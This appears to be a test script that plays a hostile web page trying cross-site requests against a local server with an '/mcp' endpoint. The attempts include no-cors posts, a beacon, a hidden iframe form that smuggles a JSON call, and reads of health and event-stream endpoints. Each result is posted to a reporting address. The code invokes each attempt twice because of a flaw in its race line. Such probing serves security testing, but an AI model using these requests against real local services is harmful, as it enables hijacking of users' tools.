// What a page may try against a server on its visitor's machine. TARGET, CALL, READY and TOLD are set before.
const json = { "Content-Type": "application/json", Accept: "application/json, text/event-stream" };
const attempts = {
  "a simple request with a plain text body": () =>
    fetch(TARGET + "/mcp", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: CALL }),
  "a request with JSON, which the browser asks leave for": () =>
    fetch(TARGET + "/mcp", { method: "POST", headers: json, body: CALL }),
  "a beacon": () => navigator.sendBeacon(TARGET + "/mcp", new Blob([CALL], { type: "text/plain" })),
  "a form": () =>
    new Promise((resolve) => {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.name = "hidden";
      const form = document.body.appendChild(document.createElement("form"));
      Object.assign(form, { action: TARGET + "/mcp", method: "POST", enctype: "text/plain", target: "hidden" });
      const field = form.appendChild(document.createElement("input"));
      const cut = CALL.indexOf("=");
      Object.assign(field, { name: CALL.slice(0, cut), value: CALL.slice(cut + 1) });
      form.submit();
      setTimeout(() => resolve("sent"), 500);
    }),
  "a post of a hook": () =>
    fetch(TARGET + "/hooks", { method: "POST", mode: "no-cors", body: JSON.stringify({ event: "session-start" }) }),
  "a read of the state": () => fetch(TARGET + "/healthz").then((answer) => answer.text()),
  "a stream of events": () => fetch(TARGET + "/sse").then((answer) => answer.body.getReader().read()),
};
(async () => {
  await fetch(READY, { mode: "no-cors" }); // answered when the server may be attacked
  const told = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    const limit = new Promise((resolve) => setTimeout(() => resolve("no answer"), 3000));
    told[name] = await Promise.race([attempt().then ? attempt().then(String, String) : String(attempt()), limit]);
  }
  await fetch(TOLD, { method: "POST", mode: "no-cors", body: JSON.stringify(told) });
})();
